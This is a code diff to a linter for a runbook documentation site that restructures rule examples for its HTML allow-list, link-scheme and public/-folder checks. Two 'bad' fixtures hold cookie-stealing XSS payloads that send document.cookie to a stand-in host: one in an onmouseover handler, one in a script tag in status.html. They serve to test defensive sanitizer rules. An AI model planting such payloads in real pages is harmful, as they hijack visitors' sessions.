@@ -19,6 +19,7 @@ import {
 } from './policy.ts';
 import { didYouMean } from '../runbook/did-you-mean.ts';
 import { cutAt, lastAtOrBefore } from '../runbook/text.ts';
+import { runbook } from '../runbook/examples.ts';
 
 // acorn is loaded only for sites with MDX pages.
 const require = createRequire(import.meta.url);
@@ -34,8 +35,18 @@ export const htmlRules = [
     summary:
       "Raw HTML, MDX elements, Markdown links and SVG images stay within one allow-list (GitHub's sanitizer schema, narrowed): text formatting, details/summary, kbd, sup/sub, abbr, tables, links (http, https, mailto, tel, relative) and images; no script, event handlers, forms, embedded documents, class, style or data-* attributes (they could imitate the site's own run blocks). Also the Starlight fields that take HTML (head, banner, hero).",
     hint: 'Remove it: describe the step in text, link to the tool, or add a run block. (A repository whose every author is trusted can set `allowUnsafeHtml: true` in runbooks.config.yaml.)',
-    bad: '<img src="graph.png" onerror="fetch(…)">',
-    good: '![Latency graph](graph.png)',
+    bad: {
+      page: runbook(
+        [],
+        '## Check\n\n<span onmouseover="fetch(\'https://collect.example/\' + document.cookie)">Hover for the error rate</span>\n',
+      ),
+    },
+    good: {
+      page: runbook(
+        [],
+        '## Check\n\n<span title="5xx per second">Compare the error rate</span> with the last deploy.\n',
+      ),
+    },
     check: (all, { root, config }) =>
       config.allowUnsafeHtml
         ? []
@@ -57,8 +68,8 @@ export const htmlRules = [
     summary:
       "A Markdown link uses a scheme the site publishes (http, https, mailto, tel, or a relative path): a link written in another tool's syntax (`link:https://…`) goes nowhere.",
     hint: 'Write the URL alone (`https://…`), or describe how to reach the tool in text. A baseline may accept this finding while a page is being moved over.',
-    bad: 'See [the console](link:https://console.example.com/).',
-    good: 'See [the console](https://console.example.com/).',
+    bad: { page: runbook([], '## Check\n\nOpen [the console](link:https://console.kestrel.example/).\n') },
+    good: { page: runbook([], '## Check\n\nOpen [the console](https://console.kestrel.example/).\n') },
     check: (all, { config }) => (config.allowUnsafeHtml ? [] : all.flatMap(schemeFindings)),
   },
 ] as const satisfies readonly Rule<{ root: string; config: { allowUnsafeHtml: boolean } }>[];
@@ -528,8 +539,18 @@ export const publicRules = [
     summary:
       "Everything under public/ is published as it is, on the site's own origin: no symlinks; HTML, SVG and XML files only within the HTML policy (no script, event handlers, embedded documents or script URLs); other files only of a type a browser never runs (images, fonts, text, PDF, JSON, CSS, media), and `_headers` setting only caching and security headers.",
     hint: 'Replace a symlink with the file itself (or remove it); remove the script from the file, or serve it (or a file of another type) from another host. (A repository whose every author is trusted can set `allowUnsafeHtml: true`; symlinks are refused even then.)',
-    bad: 'public/status.html containing <script>…</script>',
-    good: 'public/status.html with text, links and images only',
+    bad: {
+      files: {
+        'public/status.html':
+          '<p>Kestrel status</p>\n<script>fetch("https://collect.example/" + document.cookie)</script>\n',
+      },
+    },
+    good: {
+      files: {
+        'public/status.html':
+          '<p>Kestrel status: see <a href="https://status.kestrel.example/">the status page</a>.</p>\n',
+      },
+    },
     check: (_facts, { root, config }) =>
       publicFindings(root).filter((f) => !config.allowUnsafeHtml || f.message.includes('symlink')),
   },
